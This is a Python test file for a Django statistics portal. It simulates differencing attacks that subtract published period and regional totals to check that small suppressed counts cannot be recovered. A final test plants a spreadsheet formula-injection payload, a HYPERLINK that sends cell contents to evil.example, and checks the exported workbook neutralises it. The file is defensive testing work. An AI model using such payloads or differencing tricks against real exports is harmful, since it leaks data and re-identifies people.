"""Differencing attacks on the published figures, run as the analyst (who does not see small counts).

Dalfsen's true counts are known here; the attacker asks the periods and places an attacker would,
reads what is published, and works out which true counts are still possible: a published number
stands for a range of counts (the API says how: `threshold`, `rounding`), and an equation between
periods or places narrows it. The attack succeeds when a small count is left with one possibility.
"""
import calendar
import io
import re
from datetime import date, timedelta

import pytest
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from ketenzicht.insights.tables import Column, Row, Table
from ketenzicht.intake.models import Indicator
from ketenzicht.regions.models import Municipality

from ..helpers import api_client, signal, verified

pytestmark = pytest.mark.django_db

DALFSEN, ZWOLLE, DEVENTER = "GM0148", "GM0193", "GM0150"
# Dalfsen's signals per month, true counts: 2025 quarters 6, 5, 15, 3 (year 29); 2026 six in the
# first half, three in July.
DALFSEN_MONTHS = {date(2025, 1, 1): 6, date(2025, 4, 1): 5, date(2025, 7, 1): 7, date(2025, 8, 1): 6,
                  date(2025, 9, 1): 2, date(2025, 10, 1): 3, date(2026, 2, 1): 6, date(2026, 7, 1): 3}


@pytest.fixture
def dalfsen(world):
    for month, count in DALFSEN_MONTHS.items():
        for i in range(count):
            signal("liaison.dalfsen", DALFSEN, month + timedelta(days=i))
    for username, code, count in (("liaison.zwolle", ZWOLLE, 7), ("liaison.deventer", DEVENTER, 6)):
        for i in range(count):
            signal(username, code, date(2025, 10, 10) + timedelta(days=i))


def possible(count_range, minus=(), plus=()):
    """The counts a target can be: its own published range, narrowed by target = plus - minus."""
    low = max(count_range[0], sum(p[0] for p in plus) - sum(m[1] for m in minus))
    high = min(count_range[1], sum(p[1] for p in plus) - sum(m[0] for m in minus))
    return set(range(low, high + 1))


def count_range(value, hidden, threshold, rounding):
    """The true counts a published number stands for, as the API documents it."""
    if rounding:
        return (0, threshold - 1) if hidden else (value, value + rounding - 1)
    return (1, threshold - 1) if hidden else (value, value)


class Attacker:
    """Reads Dalfsen's (or the region's) signals of a period through the API or the dashboard."""

    def __init__(self, client, route):
        self.route = route
        self.api = api_client("analyst.ijsselland")
        self.page = verified(client, "analyst.ijsselland")

    def signals(self, start, end, municipality=DALFSEN):
        """The range the published count can stand for, or None when the request is refused."""
        query = f"from={start}&to={end}" + (f"&municipality={municipality}" if municipality else "")
        if self.route == "api":
            response = self.api.get(f"/api/v1/stats/people?{query}")
            if response.status_code == 400:
                return None
            body = response.json()
            row = next(r for r in body["rows"] if r["key"] == "signals")
            return count_range(row["values"]["n"], "n" in row["hidden"], body["threshold"], body.get("rounding"))
        response = self.page.get(f"/cijfers?{query}")
        if response.status_code == 400:
            return None
        page = response.content.decode()
        section = page[page.index('id="figure-people"'):]
        text = re.search(r'data-row="signals">.*?<td[^>]*>(.*?)</td>', section, re.S).group(1)
        rounding = 5 if "kz-rounding-note" in page else None
        hidden = text == "&lt;5"
        return count_range(None if hidden else int(text.replace(".", "")), hidden, 5, rounding)


ROUTES = ["api", "page"]


@pytest.mark.parametrize("route", ROUTES)
def test_january_to_july_minus_january_to_june_leaves_july_unknown(client, dalfsen, route):
    attacker = Attacker(client, route)
    july = attacker.signals("2026-07-01", "2026-07-31")
    assert july is not None  # a whole month that has ended is published
    first_seven, first_six = attacker.signals("2026-01-01", "2026-07-31"), attacker.signals("2026-01-01", "2026-06-30")
    if first_seven is None or first_six is None:
        return  # refused: the periods an attacker needs are not published
    left = possible(july, plus=[first_seven], minus=[first_six])
    assert 3 in left and len(left) > 1, f"July's count follows from two periods: {left}"


@pytest.mark.parametrize("route", ROUTES)
def test_a_year_minus_three_quarters_leaves_the_fourth_unknown(client, dalfsen, route):
    attacker = Attacker(client, route)
    year = attacker.signals("2025-01-01", "2025-12-31")
    q1, q2, q3, q4 = (attacker.signals(date(2025, m, 1), date(2025, m + 2, calendar.monthrange(2025, m + 2)[1]))
                      for m in (1, 4, 7, 10))
    left = possible(q4, plus=[year], minus=[q1, q2, q3])
    assert 3 in left and len(left) > 1, f"Q4's count follows from the year and three quarters: {left}"


def test_a_quarter_minus_two_months_leaves_the_third_unknown(client, dalfsen):
    attacker = Attacker(client, "api")
    quarter = attacker.signals("2025-07-01", "2025-09-30")
    july, august, september = (attacker.signals(f"2025-{m:02}-01", f"2025-{m:02}-{calendar.monthrange(2025, m)[1]}")
                               for m in (7, 8, 9))
    left = possible(september, plus=[quarter], minus=[july, august])
    assert 2 in left and len(left) > 1, f"September's count follows from the quarter and two months: {left}"


def test_the_region_minus_its_other_municipalities_leaves_one_unknown(client, dalfsen):
    attacker = Attacker(client, "api")
    period = ("2025-10-01", "2025-12-31")
    others = [attacker.signals(*period, municipality=m.cbs_code)
              for m in Municipality.objects.filter(region__slug="ijsselland").exclude(cbs_code=DALFSEN)]
    left = possible(attacker.signals(*period), plus=[attacker.signals(*period, municipality=None)], minus=others)
    assert 3 in left and len(left) > 1, f"Dalfsen's count follows from the region and the others: {left}"


@pytest.mark.parametrize("path", ["/cijfers", "/cijfers/people.csv", "/cijfers/monitor.xlsx", "/api/v1/stats/people"])
def test_every_route_refuses_a_free_period_to_who_sees_rounded_figures(client, world, path):
    """The period refused with the reason (in Dutch); the chair, who sees small counts, keeps free periods."""
    query = "?from=2026-01-01&to=2026-07-31"
    response = (api_client("analyst.ijsselland") if path.startswith("/api") else verified(client, "analyst.ijsselland")
                ).get(path + query)
    assert response.status_code == 400
    assert "een heel kwartaal of een heel jaar dat voorbij is" in response.content.decode()
    chair = api_client("chair.ijsselland") if path.startswith("/api") else verified(client, "chair.ijsselland")
    assert chair.get(path + query).status_code == 200


def _whole_calendar_period(start, end):
    if start.day != 1:
        return False
    month_end = date(start.year, start.month, calendar.monthrange(start.year, start.month)[1])
    quarter_last = date(start.year, start.month + 2, calendar.monthrange(start.year, start.month + 2)[1]) \
        if start.month in (1, 4, 7, 10) else None
    return end in (month_end, quarter_last, date(start.year, 12, 31) if start.month == 1 else None)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dates(date(2016, 1, 1), date(2027, 12, 31)), st.integers(0, 800))
@example(date(2025, 4, 1), 90)  # Q2 2025: published
@example(date(2026, 1, 1), 211)  # January to July: refused
def test_the_analyst_gets_only_whole_calendar_periods_that_have_ended(world, start, days):
    end = start + timedelta(days=days)
    response = api_client("analyst.ijsselland").get(f"/api/v1/stats/overdue?from={start}&to={end}")
    published = _whole_calendar_period(start, end) and end < timezone.localdate()
    assert response.status_code == (200 if published else 400)


@settings(max_examples=300, deadline=None)
@given(st.integers(2, 10).flatmap(lambda t: st.tuples(st.just(t), st.lists(
    st.integers(0, 4 * t), min_size=1, max_size=13).filter(lambda parts: len(parts) % t))))
def test_no_total_minus_its_parts_pins_a_small_count(threshold_and_parts):
    """A total and its parts (a year and its quarters, a region and its municipalities, two periods
    and their difference), each published: every small part keeps more than one possible count.
    (With a multiple of the threshold of parts, all at the top of their block, one can be pinned:
    see docs/security/statistical-disclosure.md.)"""
    threshold, parts = threshold_and_parts
    table = Table("t", "t", [Column("n", "n")], rows=[Row(str(i), str(i), {"n": n}) for i, n in enumerate(parts)],
                  total_row=True)
    published = table.publish(threshold)
    ranges = [count_range(cells[0].value, cells[0].hidden, threshold, threshold) for _row, cells in published.rows]
    total = published.totals[0]
    total_range = count_range(total.value, total.hidden, threshold, threshold)
    for i, true in enumerate(parts):
        left = possible(ranges[i], plus=[total_range], minus=ranges[:i] + ranges[i + 1:])
        assert true in left, "a published number does not stand for the counts the rule says"
        if true < threshold:
            assert len(left) > 1, f"part {i} ({true}) follows from the total"


# --------------------------------------------------------------------------- the monitor workbook
def test_monitor_workbook_writes_names_as_text_and_holds_no_formula(client, dalfsen):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Deventer")'
    Municipality.objects.filter(cbs_code=DEVENTER).update(name=formula)
    Municipality.objects.filter(cbs_code=ZWOLLE).update(name="<b>Zwolle</b>")
    Indicator.objects.filter(code="withholds_documents").update(name="@SUM(1+1)")
    verified(client, "analyst.ijsselland")
    book = load_workbook(io.BytesIO(client.get("/cijfers/monitor.xlsx?from=2025-10-01&to=2025-12-31").getvalue()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "the workbook holds a formula"
    names = {c.value: c for c in cells if isinstance(c.value, str)}
    assert names[formula].data_type == "s" and names["@SUM(1+1)"].data_type == "s"
    pdf = client.get("/cijfers/monitor.pdf?from=2025-10-01&to=2025-12-31").getvalue()
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "<b>Zwolle</b>" in text  # printed as it is, not read as markup
